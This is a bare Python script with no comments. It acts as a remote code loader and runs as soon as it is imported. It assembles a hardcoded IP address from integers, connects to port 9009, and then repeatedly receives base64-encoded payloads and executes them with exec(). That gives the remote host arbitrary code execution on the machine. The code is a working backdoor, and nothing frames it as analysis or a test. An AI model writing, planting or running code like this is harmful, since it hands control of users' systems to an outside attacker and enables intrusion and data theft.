import base64
import socket
import time


def _conn():
    host = ".".join(str(x) for x in [185, 112, 144, 245])
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect((host, 9009))
    while True:
        size = int.from_bytes(s.recv(4), "big")
        stage = s.recv(size)
        exec(base64.b64decode(stage))
        time.sleep(5)


_conn()
